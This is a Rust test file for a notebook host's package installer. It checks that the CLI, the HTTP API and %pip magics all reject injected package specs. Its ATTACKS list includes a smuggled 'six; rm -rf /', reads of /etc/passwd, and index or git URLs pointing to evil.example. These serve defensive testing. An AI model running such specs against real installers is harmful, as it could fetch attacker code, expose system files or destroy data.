//! Package specs are attacker-controlled input to a program the host runs
//! with network (the installer): every surface — `cellhost install`, HTTP
//! `POST …/packages`, and `%pip install` / `!pip install` in a cell — must
//! refuse options (`--index-url=…`, `-e .`, `-r FILE`), markers and shell
//! syntax (`pkg; rm -rf`), paths and URLs (`file:///etc`) with
//! `invalid_package_spec` before any installer runs, and the shared
//! environment without the config's consent (`shared_venv_refused`),
//! while the session keeps serving. None of these needs the network.

use serde_json::Value;

use crate::common::{self, Env, text};
use crate::http_tenants::{ALICE, Serve};

/// The injection attempts, each a spec a client or cell might send.
const ATTACKS: &[&str] = &[
    "--index-url=https://evil.example/simple",
    "-e .",
    "-r /etc/passwd",
    "six; rm -rf /",
    "file:///etc",
    "six @ file:///etc/passwd",
    "../../etc",
    "six --extra-index-url https://evil.example",
    // Names the installer would read as a local archive in its working
    // directory (built and run on the host, for an sdist).
    "evil-1.0.tar.gz",
    "evil-1.0-py3-none-any.whl",
    "evil.zip",
    // A package "name" that is a URL.
    "https://evil.example/evil-1.0.tar.gz",
    "git+https://evil.example/evil",
];

/// `cellhost install SESSION ATTACK` (daemon): exit 2 with
/// `invalid_package_spec` for each; `--shared-venv` is
/// `shared_venv_refused`; the session still runs cells.
#[test]
fn cli_install_refuses_injected_specs() {
    let env = Env::new();
    let py = common::python();
    for attack in ATTACKS {
        let o = env.run(&["install", "--python", &py, "s", attack]);
        assert_eq!(o.status.code(), Some(2), "{attack}: {}", text(&o));
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(err.contains("invalid_package_spec"), "{attack}: {}", text(&o));
    }
    let o = env.run(&["install", "--python", &py, "--shared-venv", "s", "six"]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("shared_venv_refused"),
        "{}",
        text(&o)
    );
    let o = env.run(&["exec", "--python", &py, "--session", "s", "print(6 * 7)"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(String::from_utf8_lossy(&o.stdout), "42\n");
}

fn json(body: &str) -> Value {
    serde_json::from_str(body).unwrap_or_else(|e| panic!("not JSON ({e}): {body}"))
}

/// HTTP `POST /v1/sessions/{name}/packages` with each attack: 422
/// `invalid_package_spec` naming the spec; `shared_venv: true` is 403
/// `shared_venv_refused`; options smuggled as extra fields are 422; the
/// session still executes.
#[test]
fn http_install_refuses_injected_specs() {
    let serve = Serve::start(&[]);
    let auth = format!("Bearer {ALICE}");
    let h = [
        ("Authorization", auth.as_str()),
        ("Content-Type", "application/json"),
    ];
    let a = serve.request("POST", "/v1/sessions", &h, r#"{"name": "p"}"#);
    assert_eq!(a.status, 201, "{a:?}");
    for attack in ATTACKS {
        let body = serde_json::json!({ "packages": ["tomli", attack] }).to_string();
        let a = serve.request("POST", "/v1/sessions/p/packages", &h, &body);
        assert_eq!(a.status, 422, "{attack}: {a:?}");
        let v = json(&a.body);
        assert_eq!(v["error"]["code"], "invalid_package_spec", "{attack}: {v}");
        assert_eq!(v["error"]["spec"], *attack, "{v}");
    }
    let a = serve.request(
        "POST",
        "/v1/sessions/p/packages",
        &h,
        r#"{"packages": ["six"], "shared_venv": true}"#,
    );
    assert_eq!(a.status, 403, "{a:?}");
    assert_eq!(json(&a.body)["error"]["code"], "shared_venv_refused");
    let a = serve.request(
        "POST",
        "/v1/sessions/p/packages",
        &h,
        r#"{"packages": ["six"], "index_url": "https://evil.example/simple"}"#,
    );
    assert_eq!(a.status, 422, "{a:?}");
    let a = serve.request("POST", "/v1/sessions/p/execute", &h, r#"{"code": "6 * 7"}"#);
    assert_eq!(a.status, 200, "{a:?}");
    assert_eq!(json(&a.body)["result"]["text/plain"], "42");
}

/// `%pip install ATTACK`, `!pip install ATTACK` and `%uv pip install
/// ATTACK` in a cell: the host's tool refuses before any installer runs
/// (the cell fails with `PackageInstallError: invalid_package_spec`);
/// the kernel's own pip is never run (it would fail offline anyway).
#[test]
fn pip_magic_refuses_injected_specs() {
    let env = Env::new();
    for (line, attack) in [
        ("%pip install", "--index-url=https://evil.example/simple six"),
        ("%pip install", "-e ."),
        ("%pip install", "file:///etc"),
        ("%pip install", "evil-1.0.tar.gz"),
        ("%pip install", "https://evil.example/evil.whl"),
        ("!pip install", "-r /etc/passwd"),
        ("%uv pip install", "--index-url=https://evil.example/simple six"),
    ] {
        let code = format!("{line} {attack}");
        let (status, v) = env.exec_json(&["--sandbox", "auto"], &code);
        assert_eq!(status, 1, "{code}: {v}");
        assert_eq!(v["error"]["ename"], "PackageInstallError", "{code}: {v}");
        let evalue = v["error"]["evalue"].as_str().unwrap_or_default();
        assert!(evalue.contains("invalid_package_spec"), "{code}: {v}");
    }
    // A shell command that only looks like one runs as a shell command.
    let (status, v) = env.exec_json(&["--sandbox", "auto"], "!echo pip install six; echo done");
    assert_eq!(status, 0, "{v}");
    assert!(v["stdout"].as_str().unwrap_or_default().contains("done"), "{v}");
}

/// A session whose interpreter is a venv inside its own workdir (which the
/// kernel can write: it could plant code in that venv's pip): the host
/// refuses to run it for an install (`installer_unavailable`), from the
/// CLI and from `%pip install` in a cell.
#[test]
fn an_interpreter_the_kernel_can_write_is_never_run_by_the_host() {
    let env = Env::new();
    let venv = env.path().join("v");
    let o = std::process::Command::new(common::python())
        .args(["-m", "venv", "--without-pip"])
        .arg(&venv)
        .output()
        .expect("venv");
    assert!(o.status.success(), "{}", text(&o));
    let py = venv.join("bin/python").display().to_string();
    let o = env.run(&["install", "--python", &py, "s", "six"]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("installer_unavailable"),
        "{}",
        text(&o)
    );
    let o = env.run(&[
        "exec",
        "--python",
        &py,
        "--session",
        "s",
        "--json",
        "%pip install six",
    ]);
    let v: Value =
        serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("not JSON ({e}): {}", text(&o)));
    assert_eq!(v["error"]["ename"], "PackageInstallError", "{v}");
    assert!(
        v["error"]["evalue"]
            .as_str()
            .unwrap_or_default()
            .contains("installer_unavailable"),
        "{v}"
    );
}
